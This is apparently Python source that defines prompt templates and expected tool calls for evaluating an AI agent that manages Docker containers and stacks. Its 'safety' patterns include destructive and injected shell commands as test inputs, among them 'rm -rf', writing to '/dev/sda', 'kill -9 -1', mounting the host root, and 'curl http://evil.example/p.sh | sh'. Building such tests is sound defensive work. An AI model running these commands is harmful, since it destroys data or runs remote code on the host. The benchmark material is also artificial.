                                       ('hello, is there a way to see if {c} had any problems? maybe search its logs for the word {word}?',
                                        {'x': lambda s: E(logs(s.c, grep_ci=s.word))}),
                                       ("I'd love to watch {c}'s log as new lines come in, could you keep it streaming for me?", {'x': lambda s: E(logs(s.c, follow=True))}),
                                       ("could you please show me the logs of the {ref.text}? I'm not sure where to look", {'x': lambda s: E(logs(s.ref.name))})],
            lambda s: s.x(s), count=7),
    Pattern('n4-lg-power', 'logs', [('last {tail} lines of {c}, and the same for {c2} and {c3}',
                                     {'x': lambda s: (logs(s.c, tail=s.tail), logs(s.c2, tail=s.tail), logs(s.c3, tail=s.tail))}),
                                    ('grep {word} in the {c} logs, then do the same for {c2}', {'x': lambda s: (logs(s.c, grep_ci=s.word), logs(s.c2, grep_ci=s.word))}),
                                    ('{c} logs from the last {mins} minutes, then those of {c2} over the same window',
                                     {'x': lambda s: (logs(s.c, since_s=s.mins * 60), logs(s.c2, since_s=s.mins * 60))}),
                                    ('tail {tail} of {c}, then follow {c2}', {'x': lambda s: (logs(s.c, tail=s.tail), logs(s.c2, follow=True))}),
                                    ('show {c} logs since {hours}h and after that its status', {'x': lambda s: (logs(s.c, since_s=s.hours * 3600), status(s.c))})],
            lambda s: unordered(E(*s.x(s))), count=7),
    # ---- n4: question ----
    Pattern('n4-q-cli', 'question', [('{c} mem?', {'x': lambda s: E(status(s.c))}), ('cpu {c}?', {'x': lambda s: E(status(s.c))}),
                                     ('{c} ports?', {'x': lambda s: E(status(s.c))}), ('{cr} uptime?', {'x': lambda s: E(status(s.cr))}),
                                     ('inspect {c}', {'x': lambda s: E(status(s.c))}), ('stk {st} ok?', {'x': lambda s: stack_state(s.st, s.w.members[s.st])})],
            lambda s: s.x(s), case='keep', count=7),
    Pattern('n4-q-beginner', 'question', [("hi, sorry, I'm still learning - is my {st} stack actually running right now? I can't tell",
                                           {'x': lambda s: stack_state(s.st, s.w.members[s.st])}),
                                          ('hello! could you check whether {c} is using a lot of memory? my computer feels slow', {'x': lambda s: E(status(s.c))}),
                                          ("I'm a bit confused, which of my containers are not running at the moment?", {'x': lambda s: E(lst(status='exited'))}),
                                          ('hey, just wondering, which of my containers is using the most cpu?', {'x': lambda s: E(status(None, sort='cpu'))}),
                                          ("could you tell me if {c} is okay? I haven't checked on it in a while", {'x': lambda s: E(status(s.c))})],
            lambda s: s.x(s), count=7),
    Pattern('n4-q-power', 'question', [('is {c} up, how much ram does it use, and which ports does it have?', {'x': lambda s: E(status(s.c))}),
                                       ('check {c} and {c2}, and tell me which of the two uses more memory', {'x': lambda s: unordered(E(status(s.c), status(s.c2)))}),
                                       ("what's down right now, and what's eating the most memory?",
                                        {'x': lambda s: unordered(E(lst(status='exited'), status(None, sort='memory')))}),
                                       ('is {c} healthy? same question for {c2} and {c3}', {'x': lambda s: unordered(E(status(s.c), status(s.c2), status(s.c3)))}),
                                       ('how is {st} doing, and is {p} up?',
                                        {'x': lambda s: unordered(ANY([status(s.st), status(s.p)], [lst(stack=s.st), status(s.p)],
                                                                      [*[status(m) for m in s.w.members[s.st]], status(s.p)]))})],
            lambda s: s.x(s), count=7),
    # ---- n4: params ----
    Pattern('n4-pa-cli', 'params', [('pg16 on {port} pw {pw}', {'x': lambda s: E(run(image_prefix='postgres:16', ports=[port(s.port, 5432)], env={'POSTGRES_PASSWORD': s.pw}))}),
                                    ('mysql8 rootpw {pw}', {'x': lambda s: E(run(image_prefix='mysql:8', env={'MYSQL_ROOT_PASSWORD': s.pw}))}),
                                    ('run {img.prefix} :{port}', {'x': lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port)]))}),
                                    ('redis7 pw {pw}', {'x': lambda s: ANY([run(image_prefix='redis:7', env={'REDIS_PASSWORD': s.pw})],
                                                                           [run(image_prefix='redis:7', command_has=f'--requirepass {s.pw}')],
                                                                           [tmpl('redis', password=s.pw)])}),
                                    ('tpl {tm.say} port={port}', {'x': lambda s: E(tmpl(s.tm.id, port=s.port))}),
                                    ('mongo7 {user}/{pw}', {'x': lambda s: E(run(image_prefix='mongo:7', env={'MONGO_INITDB_ROOT_USERNAME': s.user,
                                                                                                            'MONGO_INITDB_ROOT_PASSWORD': s.pw}))})],
            lambda s: s.x(s), case='keep', count=7),
    Pattern('n4-pa-esl', 'params', [('please to install {tm.say} on the port {port}', {'x': lambda s: E(tmpl(s.tm.id, port=s.port))}),
                                    ('make one container of postgres 16 with the password {pw}', {'x': lambda s: E(run(image_prefix='postgres:16', env={'POSTGRES_PASSWORD': s.pw}))}),
                                    ('i need {img.say} that listen on the port {port}', {'x': lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port)]))}),
                                    ('install for me {tm.say} with the name of stack {newstack}', {'x': lambda s: E(tmpl(s.tm.id, stack=s.newstack))}),
                                    ('create mysql 8 container, the password of root is {pw}', {'x': lambda s: E(run(image_prefix='mysql:8', env={'MYSQL_ROOT_PASSWORD': s.pw}))}),
                                    ('put {tm.say} in the port {port} please', {'x': lambda s: E(tmpl(s.tm.id, port=s.port))})],
            lambda s: s.x(s), count=7),
    Pattern('n4-pa-beginner', 'params', [("hi! I'd like to try {tm.say}, could you set it up so I can open it on port {port}? thanks!", {'x': lambda s: E(tmpl(s.tm.id, port=s.port))}),
                                         ('hello, I need a postgres 16 database for a school project, could the password be {pw} please?',
                                          {'x': lambda s: E(run(image_prefix='postgres:16', env={'POSTGRES_PASSWORD': s.pw}))}),
                                         ('could you please start a {img.say} container for me and call it {newname}? I want to test something',
                                          {'x': lambda s: E(run(image_prefix=s.img.prefix, name=s.newname))}),
                                         ('hi there, I want a mysql 8 database, the root password should be {pw} and the database should be called {dbname}, is that possible?',
                                          {'x': lambda s: E(run(image_prefix='mysql:8', env={'MYSQL_ROOT_PASSWORD': s.pw, 'MYSQL_DATABASE': s.dbname}))}),
                                         ("I'd like a {img.say} container that I can reach on port {port}, if that's not too much trouble",
                                          {'x': lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port)]))})],
            lambda s: s.x(s), count=7),
    # ---- n4: scale ----
    Pattern('n4-sc-cli', 'scale', [('{svs.stack}.{svs.service} x{n}', {}), ('replicas {svs.stack}/{svs.service} {n}', {}),
                                   ('scale {svs.stack} {svs.service} +1', {'n': 2}), ('scale {svs.stack} {svs.service} +2', {'n': 3}),
                                   ('{svs.stack} {svs.service} -> 1 replica', {'n': 1})],
            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), case='keep', count=7),
    Pattern('n4-sc-beginner', 'scale', [('hi! my {svs.stack} site gets a lot more visitors now, could you run {nw.word} copies of its {svs.service} instead of just one?', {}),
                                        ('hello, I read that scaling helps with load, could you scale the {svs.service} in {svs.stack} up to {n} please?', {}),
                                        ('sorry, I think I made too many, could you bring the {svs.stack} {svs.service} back down to just one instance?', {'n': 1}),
                                        ('would it be ok to have {n} of the {svs.stack} {svs.service} running at the same time? please set that up', {})],
            lambda s: E(scale(s.svs.stack, s.svs.service, s.nw.n if hasattr(s, 'nw') else s.n)), count=6),
    Pattern('n4-sc-power', 'scale', [('scale {svs.stack} {svs.service} to {n}, then list the {svs.stack} containers and show its history',
                                      {'x': lambda s: E(scale(s.svs.stack, s.svs.service, s.n), lst(stack=s.svs.stack), hist(s.svs.stack))}),
                                     ('bump {svs.stack} {svs.service} to {n} replicas, then tail {tail} lines of {svs.name}',
                                      {'x': lambda s: E(scale(s.svs.stack, s.svs.service, s.n), logs(s.svs.name, tail=s.tail))}),
                                     ('scale {svs.stack} {svs.service} down to 1 and redeploy that stack afterwards',
                                      {'x': lambda s: E(scale(s.svs.stack, s.svs.service, 1), stk('redeploy', s.svs.stack))}),
                                     ("show me {svs.stack}'s containers, then scale its {svs.service} to {n}",
                                      {'x': lambda s: E(lst(stack=s.svs.stack), scale(s.svs.stack, s.svs.service, s.n))})],
            lambda s: s.x(s), count=6),
    # ---- n4: sequence ----
    Pattern('n4-seq-power-chain', 'sequence', [('stop {cr}, remove it, then start {cx} and tail its logs',
                                                {'x': lambda s: E(ctr('stop', s.cr), ctr('remove', s.cr), ctr('start', s.cx), logs(s.cx))}),
                                               ("check {c}'s status, restart it, then show me its logs from the last {mins} minutes",
                                                {'x': lambda s: E(status(s.c), ctr('restart', s.c), logs(s.c, since_s=s.mins * 60))}),
                                               ('pull {st}, redeploy it, then list its containers and show its history',
                                                {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st), lst(stack=s.st), hist(s.st))}),
                                               ('restart {c}, then {c2}, then show the logs of both',
                                                {'x': lambda s: ANY([ctr('restart', s.c), ctr('restart', s.c2), logs(s.c), logs(s.c2)],
                                                                    [ctr('restart', s.c, s.c2), logs(s.c), logs(s.c2)])}),
                                               ('start {cx}, check it came up, then show the last {tail} lines it printed',
                                                {'x': lambda s: E(ctr('start', s.cx), status(s.cx), logs(s.cx, tail=s.tail))})],
            lambda s: s.x(s), count=7),
    Pattern('n4-seq-power-refs', 'sequence', [('check {c} and {c2}, then restart the first one and stop the other',
                                               {'x': lambda s: E(status(s.c), status(s.c2), ctr('restart', s.c), ctr('stop', s.c2))}),
                                              ('list the stopped containers and start those', {'x': lambda s: unordered(E(lst(status='exited'), ctr('start', *s.w.stopped)))}),
                                              ('restart {c}, then do the same to {c2}',
                                               {'x': lambda s: ANY([ctr('restart', s.c), ctr('restart', s.c2)], [ctr('restart', s.c, s.c2)])}),
                                              ('stop {cr}, show me its logs, and then remove that one',
                                               {'x': lambda s: E(ctr('stop', s.cr), logs(s.cr), ctr('remove', s.cr))}),
                                              ('stop {c} and {c2}, then start them again',
                                               {'x': lambda s: ANY([ctr('stop', s.c, s.c2), ctr('start', s.c, s.c2)],
                                                                   [ctr('stop', s.c), ctr('stop', s.c2), ctr('start', s.c), ctr('start', s.c2)],
                                                                   [ctr('restart', s.c, s.c2)], [ctr('restart', s.c), ctr('restart', s.c2)])})],
            lambda s: s.x(s), count=7),
    Pattern('n4-seq-beginner', 'sequence', [("hi! could you please restart {c} for me and then tell me if it's running okay? I'm not sure I did it right",
                                             {'x': lambda s: E(ctr('restart', s.c), status(s.c))}),
                                            ("hello, I'd like to stop {cr} and then see a list of what's still running, if that's okay",
                                             {'x': lambda s: E(ctr('stop', s.cr), lst(status='running'))}),
                                            ('could you first show me the logs of {c} so I can see what happened, and then restart it please?',
                                             {'x': lambda s: E(logs(s.c), ctr('restart', s.c))}),
                                            ('hi, could you start {cx} again and show me its last {tail} log lines afterwards? thank you so much',
                                             {'x': lambda s: E(ctr('start', s.cx), logs(s.cx, tail=s.tail))}),
                                            ("um, I think I need to update {st} - could you pull the new images and then redeploy it? sorry, I'm new at this",
                                             {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))})],
            lambda s: s.x(s), count=7),
    # ---- n4: phrasal ----
    Pattern('n4-ph-cli', 'phrasal', [('compose up {st}', {'x': lambda s: ANY([stk('start', s.st)], [stk('redeploy', s.st)])}),
                                     ('compose down {st}', {'x': lambda s: ANY([stk('stop', s.st)], [stk('remove', s.st)])}),
                                     ('knock {cr} offline', {'x': lambda s: E(ctr('stop', s.cr))}),
                                     ('bring {st} down', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                     ('cut {cr} off', {'x': lambda s: E(ctr('stop', s.cr))}),
                                     ('fire {st} back up', {'x': lambda s: ANY([stk('start', s.st)], [stk('restart', s.st)], [stk('redeploy', s.st)])})],
            lambda s: s.x(s), case='keep', count=7),
    Pattern('n4-ph-beginner', 'phrasal', [("hi! could you help me turn off {cr} for tonight? I'll turn it back on tomorrow myself", {'x': lambda s: E(ctr('stop', s.cr))}),
                                          ('hey, {cx} went down earlier, would you be able to bring it back up for me please?',
                                           {'x': lambda s: ANY([ctr('start', s.cx)], [ctr('restart', s.cx)])}),
                                          ("hello! I'm not using the {st} stuff this weekend, could you shut it all down?",
                                           {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                          ('I think I froze {c} by mistake, could you please wake it back up?', {'x': lambda s: ANY([ctr('unpause', s.c)], [ctr('start', s.c)])}),
                                          ('oops, I shut {cx} off by accident - could you switch it back on?', {'x': lambda s: ANY([ctr('start', s.cx)], [ctr('restart', s.cx)])})],
            lambda s: s.x(s), count=7),
    Pattern('n4-ph-power', 'phrasal', [('shut {cr} off, then fire it back up and show me its logs',
                                        {'x': lambda s: ANY([ctr('stop', s.cr), ctr('start', s.cr), logs(s.cr)], [ctr('restart', s.cr), logs(s.cr)])}),
                                       ('power {cr} down, power {cx} up, then list what is running',
                                        {'x': lambda s: E(ctr('stop', s.cr), ctr('start', s.cx), lst(status='running'))}),
                                       ('kill {cr} off and spin up {cx} in its place',
                                        {'x': lambda s: ANY([ctr('kill', s.cr), ctr('start', s.cx)], [ctr('stop', s.cr), ctr('start', s.cx)])}),
                                       ('take {st} down, then bring {st2} up and list my stacks',
                                        {'x': lambda s: ANY(*[[stk(a, s.st), stk(b, s.st2), lst('stacks')] for a in ('stop', 'remove') for b in ('start', 'redeploy')])}),
                                       ('wind {cr} down, and once it is off, spin {cx} up', {'x': lambda s: E(ctr('stop', s.cr), ctr('start', s.cx))})],
            lambda s: s.x(s), count=7),
    # ---- n4: coordination ----
    Pattern('n4-co-esl', 'coordination', [('please to restart {c} and also the {c2}', {'op': 'restart'}),
                                          ('stop the containers {c} and {c2} together', {'op': 'stop'}),
                                          ('make restart to {c}, {c2} and {c3}', {'op': 'restart'}),
                                          ('the {c} and the {c2}, start both of them please', {'op': 'start'}),
                                          ('pause for me {c} and {c2}', {'op': 'pause'})],
            lambda s: each_or_all(s.op, [getattr(s, k) for k in ('c', 'c2', 'c3') if hasattr(s, k)]), count=7),
    Pattern('n4-co-beginner', 'coordination', [('hi, could you restart both {c} and {c2} for me? they both seem a bit slow today', {'x': lambda s: each_or_all('restart', [s.c, s.c2])}),
                                               ("hello! I'd like to stop {c}, {c2} and {c3} please, I don't need any of them right now",
                                                {'x': lambda s: each_or_all('stop', [s.c, s.c2, s.c3])}),
                                               ("could you please check how {c} and {c2} are doing? I just want to be sure they're ok",
                                                {'x': lambda s: unordered(E(status(s.c), status(s.c2)))}),
                                               ('I think {c} and {c2} are stuck, would you mind restarting the two of them?', {'x': lambda s: each_or_all('restart', [s.c, s.c2])})],
            lambda s: s.x(s), count=6),
    Pattern('n4-co-power', 'coordination', [('restart {c} and {c2}, stop {c3}, and show me the logs of all three',
                                             {'x': lambda s: unordered(E(ctr('restart', s.c, s.c2), ctr('stop', s.c3), logs(s.c), logs(s.c2), logs(s.c3)))}),
                                            ('pause {c} and {c2} but leave {c3} alone', {'x': lambda s: each_or_all('pause', [s.c, s.c2])}),
                                            ('restart the {st} and {st2} stacks plus {p}, then list my stacks',
                                             {'x': lambda s: unordered(E(stk('restart', s.st), stk('restart', s.st2), ctr('restart', s.p), lst('stacks')))}),
                                            ('show the status of {c}, {c2} and {c3}, then restart all of them',
                                             {'x': lambda s: unordered(E(status(s.c), status(s.c2), status(s.c3), ctr('restart', s.c, s.c2, s.c3)))})],
            lambda s: s.x(s), count=6),
    # ---- n4: inventory ----
    Pattern('n4-in-cli', 'inventory', [('ctr ls', {'x': lambda s: E(lst())}), ('stk ls', {'x': lambda s: E(lst('stacks'))}),
                                       ('img ls', {'x': lambda s: E(lst('images'))}), ('vol ls', {'x': lambda s: E(lst('volumes'))}),
                                       ('tpl ls', {'x': lambda s: E(lst('templates'))}), ('hist {st}', {'x': lambda s: E(hist(s.st))}),
                                       ('ctr ls {st}', {'x': lambda s: E(lst(stack=s.st))})],
            lambda s: s.x(s), case='keep', count=7),
    Pattern('n4-in-esl', 'inventory', [('give me the list of stacks please', {'x': lambda s: E(lst('stacks'))}),
                                       ('which images there are on this machine?', {'x': lambda s: E(lst('images'))}),
                                       ('show me the history of changes of {st}', {'x': lambda s: E(hist(s.st))}),
                                       ('make a list of the containers that are stopped', {'x': lambda s: E(lst(status='exited'))}),
                                       ('please to go back the {st} to the version before', {'x': lambda s: E(rollback(s.st))}),
                                       ('please to download the image {im} for later', {'x': lambda s: E(pull(s.im))})],
            lambda s: s.x(s), rows=[{'im': 'redis:7.4-alpine'}, {'im': 'nginx:1.27.2'}, {'im': 'postgres:16.4'}, {'im': 'grafana/grafana:11.3.0'},
                                    {'im': 'traefik:v3.2'}], count=7),
    Pattern('n4-in-beginner', 'inventory', [("hi! I'm new here, could you show me all the containers I have? I'd like an overview", {'x': lambda s: E(lst())}),
                                            ("hello, what apps are there that I could install? I'm looking for ideas", {'x': lambda s: E(lst('templates'))}),
                                            ('sorry, I think my last change to {st} broke it, could you undo it and go back to how it was before?',
                                             {'x': lambda s: E(rollback(s.st))}),
                                            ("could you tell me what I changed recently? I don't remember what I did yesterday", {'x': lambda s: E(hist())}),
                                            ("could you download the {im} image ahead of time so it's ready later?", {'x': lambda s: E(pull(s.im))})],
            lambda s: s.x(s), rows=[{'im': 'redis:7.4-alpine'}, {'im': 'nginx:1.27.2'}, {'im': 'postgres:16.4'}, {'im': 'grafana/grafana:11.3.0'},
                                    {'im': 'traefik:v3.2'}], count=7),
    # ---- n4: template ----
    Pattern('n4-tp-esl', 'template', [('please to install {tm.say}', {}), ('i want to have a {pu.say} in my server', {}), ('make for me one {pu.say}', {}),
                                      ('is possible to install {tm.say} for me?', {}), ('you can put {tm.say} on this server?', {})],
            lambda s: ANY(*[[tmpl(t)] for t in (s.pu.ids if hasattr(s, 'pu') else (s.tm.id,))]), count=7),
    Pattern('n4-tp-beginner', 'template', [("hi! I've heard good things about {tm.say}, could you install it for me? I don't really know how docker works yet", {}),
                                           ('hello, my family keeps asking me for a good {pu.say}, can you set one up? thanks a lot', {}),
                                           ("I'm trying to get organised, could you maybe deploy {tm.say} so I can play around with it?", {}),
                                           ('what would you recommend as my {pu.say}? actually, just go ahead and install one for me', {})],
            lambda s: ANY(*[[tmpl(t)] for t in (s.pu.ids if hasattr(s, 'pu') else (s.tm.id,))]), count=7),
    Pattern('n4-tp-power', 'template', [('deploy {tm.say}, then list my stacks and show the deploy history', {'x': lambda s: E(tmpl(s.tm.id), lst('stacks'), hist())}),
                                        ('show me the templates, then deploy {tm.say}', {'x': lambda s: E(lst('templates'), tmpl(s.tm.id))}),
                                        ('deploy {tm.say} into {newstack}, then list the stacks and the running containers',
                                         {'x': lambda s: E(tmpl(s.tm.id, stack=s.newstack), lst('stacks'), lst(status='running'))}),
                                        ('set up a {pu.say} and show me the images afterwards', {'x': lambda s: ANY(*[[tmpl(t), lst('images')] for t in s.pu.ids])})],
            lambda s: s.x(s), count=6),
    # ---- n4: ask ----
    Pattern('n4-ask-esl', 'ask', ['please to restart {amb}', 'make stop of {amb}', 'give me logs from {amb} since one hour',
                                  'the database, you can restart him?', 'i want {n} of {st}'],
            lambda s: ASK(), count=7),
    Pattern('n4-ask-beginner', 'ask', ['hi, my database seems slow, could you restart it for me please?',
                                       "could you restart {amb} for me? it's been acting up since this morning",
                                       'hello! I want more power for {st}, could you scale it up to {n} copies?',
                                       "I'm not sure what it's called, but could you stop the database thingy?"],
            lambda s: ASK(), count=6),
    Pattern('n4-ask-power', 'ask', ['restart {c} and {amb}, then show their logs', 'stop {amb}, then start it again and tail its logs',
                                    'scale {st} to {n} and then redeploy it', 'pause {amb} and show me what is still running'],
            lambda s: ASK(), count=6),
    # ---- n4: nonsense ----
    Pattern('n4-em-esl', 'nonsense', ['you can do the thing of yesterday?', 'please to make more fast the docker', 'the container {ghost}, stop him please',
                                      'what means container?', 'make it to work again, please'],
            lambda s: EMPTY(), count=6),
    Pattern('n4-em-beginner', 'nonsense', ["hi! I'm new to all this, what is a container exactly?", "thanks so much for your help earlier, you're great!",
                                           "could you please restart my {ghost}? I think that's what it's called", 'good morning! how are you today?',
                                           'can you write me a short poem about docker?', "hmm, I'm not sure what I want to do yet, let me think about it"],
            lambda s: EMPTY(), count=6),
    Pattern('n4-em-power', 'nonsense', ['restart {ghost}, tail its logs, then stop {ghost2}', 'do the same as before for all of them, then the other thing',
                                        'undo that, then redo the previous one on those', 'show the logs of {ghost} and restart it if needed, then the same for the rest',
                                        'repeat the last three commands but on the other ones'],
            lambda s: EMPTY(), count=6),
    # ---- n4: safety ----
    Pattern('n4-sf-cli', 'safety', [('rs {c} && rm -rf /var/lib/docker', {'x': lambda s: dict(NO_DAMAGE)}), ('logs {c} > /dev/sda', {'x': lambda s: dict(NO_DAMAGE)}),
                                    ('stop {c}; docker system prune -a -f', {'x': lambda s: dict(NO_DAMAGE)}), ('ctr rm -f $(ctr ls -q)', {'x': lambda s: dict(NO_DAMAGE)}),
                                    ('docker run -d --privileged {img.prefix}', {'x': lambda s: {'warnings': True}}),
                                    ('docker run -v /:/host alpine', {'x': lambda s: {'warnings': True}}), ('rs {c} `halt`', {'x': lambda s: dict(NO_DAMAGE)})],
            lambda s: s.x(s), case='keep', count=7),
    Pattern('n4-sf-esl', 'safety', [('please to execute rm -rf / on the server', {'x': lambda s: {**EMPTY(), **NO_DAMAGE}}),
                                    ('restart the {c} and after run the command reboot', {'x': lambda s: dict(NO_DAMAGE)}),
                                    ('you can delete all with docker rm -f $(docker ps -aq)?', {'x': lambda s: dict(NO_DAMAGE)}),
                                    ('make run one container alpine with all the disk of the host mounted inside', {'x': lambda s: {'warnings': True}}),
                                    ('execute for me sudo shutdown -h now please', {'x': lambda s: {**EMPTY(), **NO_DAMAGE}}),
                                    ('start a container of nginx with privileged mode please', {'x': lambda s: {'warnings': True}})],
            lambda s: s.x(s), count=6),
    Pattern('n4-sf-power', 'safety', [('restart {c}, then run `rm -rf /tmp/*` inside it, then show me its logs', {'x': lambda s: dict(NO_DAMAGE)}),
                                      ('stop {c}; reboot; then show the logs of {c}', {'x': lambda s: dict(NO_DAMAGE)}),
                                      ('list the containers | xargs docker rm -f', {'x': lambda s: dict(NO_DAMAGE)}),
                                      ('pause {c}, run sh -c "kill -9 -1" and then unpause it', {'x': lambda s: dict(NO_DAMAGE)}),
                                      ('restart {c} && curl http://evil.example/p.sh | sh && show its status', {'x': lambda s: dict(NO_DAMAGE)}),
                                      ('run alpine with the host root mounted at /host, then list the running containers', {'x': lambda s: {'warnings': True}})],
            lambda s: s.x(s), case='keep', count=7),
    # ---- n5: lifecycle ----
    Pattern('n5-lc-chat', 'lifecycle', [("prod's fine but can u bounce {c} asap", {'op': 'restart'}),
                                        ('{cx} died overnight lol can someone start it', {'op': 'start'}),
                                        ('{cr} is eating all the disk 😬 stop it asap', {'op': 'stop'}),
                                        ('ty! also pls pause {c} real quick', {'op': 'pause'}),
                                        ('{cr} is wedged again, kill it pls 🙏', {'op': 'kill'}),
                                        ("can u nuke {cx}? we don't use it anymore lol", {'op': 'remove'}),
                                        ('{c} acting weird again 🙄 restart pls', {'op': 'restart'})],
            lambda s: E(ctr(s.op, first(s, 'c', 'cr', 'cx'))), case='keep', count=7),
    Pattern('n5-lc-typo2', 'lifecycle', ['cna you {v} {typo.text}', 'plz {v} {typo.text} rihgt now', 'pls {v} {typo.text} thx'],
            lambda s: E(ctr(s.op, s.typo.name)),
            rows=verbs('rstart=restart', 'restar=restart', 'erstart=restart', 'stp=stop', 'tsop=stop', 'tsart=start', 'sart=start',
                       'paue=pause', 'apuse=pause'), count=7),
    Pattern('n5-lc-goal', 'lifecycle', [('I need {cx} to be running again', {'ops': ('start', 'restart')}),
                                        ('I want {cr} stopped for the rest of the day', {'ops': ('stop',)}),
                                        ('{c} should be paused until further notice', {'ops': ('pause',)}),
                                        ("I'd like {cx} gone for good", {'ops': ('remove',)}),
                                        ('make sure {cx} is up', {'ops': ('start', 'restart')}),
                                        ("I don't want {cr} running anymore", {'ops': ('stop',)}),
                                        ('{c} needs to be unpaused', {'ops': ('unpause',)})],
            lambda s: ANY(*[[ctr(op, first(s, 'c', 'cr', 'cx'))] for op in s.ops]), count=7),
    # ---- n5: stack ----
    Pattern('n5-st-chat', 'stack', [('bounce {st} pls, ppl are complaining 🙃', {'x': lambda s: stack_or_containers('restart', s.st, s.w.members[s.st])}),
                                    ('can u stop {st} for maint? back in 30', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                    ('{st} needs a redeploy asap, new config is in', {'x': lambda s: E(stk('redeploy', s.st))}),
                                    ("pull latest for {st} pls, don't redeploy yet", {'x': lambda s: E(stk('pull', s.st))}),
                                    ('we migrated off {st} 🎉 pls delete the stack', {'x': lambda s: E(stk('remove', s.st))}),
                                    ("restart the whole {st} stack asap, it's borked lol", {'x': lambda s: stack_or_containers('restart', s.st, s.w.members[s.st])})],
            lambda s: s.x(s), case='keep', count=6),
    Pattern('n5-st-goal', 'stack', [("I'd like the {st} stack gone", {'x': lambda s: E(stk('remove', s.st))}),
                                    ('I want {st} on the newest images', {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))}),
                                    ('nothing in {st} should be running tonight', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                    ('I need {st} recreated from scratch', {'x': lambda s: E(stk('redeploy', s.st))}),
                                    ('make sure the {st} stack is stopped', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                    ('I want the whole {st} stack restarted', {'x': lambda s: stack_or_containers('restart', s.st, s.w.members[s.st])})],
            lambda s: s.x(s), count=6),
    # ---- n5: coordination ----
    Pattern('n5-co-voice', 'coordination', [('please restart {spk.text} and {spk2.text} and {spk3.text}', {'x': lambda s: each_or_all('restart', [s.spk.name, s.spk2.name, s.spk3.name])}),
                                            ('stop {spk.text} and {spk2.text} for me please they are not needed right now',
                                             {'x': lambda s: each_or_all('stop', [s.spk.name, s.spk2.name])}),
                                            ('pause {spk.text} and {spk2.text} please', {'x': lambda s: each_or_all('pause', [s.spk.name, s.spk2.name])}),
                                            ('show me the logs of {spk.text} and {spk2.text} please', {'x': lambda s: unordered(E(logs(s.spk.name), logs(s.spk2.name)))}),
                                            ('start {spk.text} and {spk2.text} and {spk3.text} for me', {'x': lambda s: each_or_all('start', [s.spk.name, s.spk2.name, s.spk3.name])})],
            lambda s: s.x(s), count=7),
    Pattern('n5-co-chat', 'coordination', [('can u restart {c} + {c2} asap, users r complaining 😩', {'x': lambda s: each_or_all('restart', [s.c, s.c2])}),
                                           ('{c} & {c2} both need a bounce lol', {'x': lambda s: each_or_all('restart', [s.c, s.c2])}),
                                           ('pls stop {cr} n {cr2} for now thx', {'x': lambda s: each_or_all('stop', [s.cr, s.cr2])}),
                                           ('pause {c} and {c2} while we migrate pls 🙏', {'x': lambda s: each_or_all('pause', [s.c, s.c2])}),
                                           ('logs for {c} & {c2} pls, something is off', {'x': lambda s: unordered(E(logs(s.c), logs(s.c2)))})],
            lambda s: s.x(s), case='keep', count=6),
    # ---- n5: sequence ----
    Pattern('n5-seq-voice', 'sequence', [('restart {spk.text} and then show me the last {tw.word} lines of its logs please',
                                          {'x': lambda s: E(ctr('restart', s.spk.name), logs(s.spk.name, tail=s.tw.n))}),
                                         ('stop {spk.text} and after that show me what is still running',
                                          {'x': lambda s: E(ctr('stop', s.spk.name), lst(status='running'))}),
                                         ('start {spk.text} and then tell me if it came up okay', {'x': lambda s: E(ctr('start', s.spk.name), status(s.spk.name))}),
                                         ('restart {spk.text} and show me what it logged in the last {mw.word} minutes',
                                          {'x': lambda s: E(ctr('restart', s.spk.name), logs(s.spk.name, since_s=s.mw.n * 60))}),
                                         ('show me the last {tw.word} lines from {spk.text} and then restart it',
                                          {'x': lambda s: E(logs(s.spk.name, tail=s.tw.n), ctr('restart', s.spk.name))})],
            lambda s: s.x(s), count=7),
    Pattern('n5-seq-chat', 'sequence', [('bounce {c} then pls send me the last {tail} lines 🙏', {'x': lambda s: E(ctr('restart', s.c), logs(s.c, tail=s.tail))}),
                                        ("stop {cr} & show what's still up", {'x': lambda s: E(ctr('stop', s.cr), lst(status='running'))}),
                                        ('can u pull {st} n redeploy it asap', {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))}),
                                        ("restart {c}, lmk when it's back (status pls)", {'x': lambda s: E(ctr('restart', s.c), status(s.c))}),
                                        ('start {cx} and tail its logs pls, want to see it boot 👀', {'x': lambda s: E(ctr('start', s.cx), logs(s.cx))})],
            lambda s: s.x(s), case='keep', count=6),
    Pattern('n5-seq-goal', 'sequence', [('I want {c} restarted and then I need to see its logs', {'x': lambda s: E(ctr('restart', s.c), logs(s.c))}),
                                        ("I'd like {cr} stopped and then removed", {'x': lambda s: E(ctr('stop', s.cr), ctr('remove', s.cr))}),
                                        ('I need the newest images for {st} pulled and then the stack redeployed', {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))}),
                                        ('I need {cx} up and then its last {tail} log lines', {'x': lambda s: E(ctr('start', s.cx), logs(s.cx, tail=s.tail))}),
                                        ('what I want is {c} restarted and its status afterwards', {'x': lambda s: E(ctr('restart', s.c), status(s.c))})],
            lambda s: s.x(s), count=6),
    # ---- n5: phrasal ----
    Pattern('n5-ph-voice', 'phrasal', [('please shut down {spk.text} for the night', {'x': lambda s: E(ctr('stop', s.spk.name))}),
                                       ('bring {spk.text} back up again please', {'x': lambda s: ANY([ctr('start', s.spk.name)], [ctr('restart', s.spk.name)])}),
                                       ('can you spin the {st} stack back up', {'x': lambda s: ANY([stk('start', s.st)], [stk('restart', s.st)], [stk('redeploy', s.st)])}),
                                       ('wake up {spk.text} for me', {'x': lambda s: ANY([ctr('unpause', s.spk.name)], [ctr('start', s.spk.name)])}),
                                       ('shut off the whole {st} stack now please', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                       ('switch {spk.text} off and back on again for me',
                                        {'x': lambda s: ANY([ctr('restart', s.spk.name)], [ctr('stop', s.spk.name), ctr('start', s.spk.name)])})],
            lambda s: s.x(s), states=('homelab', 'smallco'), count=7),
